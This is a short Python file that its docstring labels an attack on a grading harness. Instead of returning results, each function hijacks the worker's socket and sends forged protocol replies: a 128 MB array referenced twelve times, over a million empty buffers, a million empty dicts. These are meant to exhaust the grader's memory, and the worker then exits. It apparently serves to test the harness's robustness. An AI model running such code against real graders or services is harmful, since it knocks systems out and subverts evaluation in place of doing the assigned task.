"""Attack (issue 20): spend the grader's memory in decoding. When the grader calls a function,
write a raw reply on the worker's own socket instead of returning: one 128 MB array referenced
twelve times (`step`), 16 million empty buffers (`sigmoid`), a header of a million empty
dicts (`tanh`), then leave."""

import gc
import json
import os
import socket
import struct


def _sock():
    return next(o for o in gc.get_objects() if isinstance(o, socket.socket))


def _send(header, body=b""):
    head = json.dumps(header, separators=(",", ":")).encode()
    s = _sock()
    s.setblocking(True)
    s.sendall(struct.pack(">4sIQ", b"NNG1", len(head), len(body)) + head)
    if body:
        s.sendall(body)
    os._exit(0)


def _npy(n):
    head = "{'descr': '<f8', 'fortran_order': False, 'shape': (" + str(n) + ",), }"
    head += " " * (-(10 + len(head) + 1) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head.encode() + bytes(8 * n)


def step(x):
    buf = _npy(16 * 2**20)  # 128 MB
    _send({"op": "value", "value": {"list": [{"ndarray": 0}] * 12}, "buffers": [len(buf)]}, buf)


def sigmoid(x):
    _send({"op": "value", "value": None, "buffers": [0] * (16 * 2**20 // 10)})


def tanh(x):
    _send({"op": "value", "value": {"list": [{"dict": {}}] * 1_000_000}, "buffers": []})
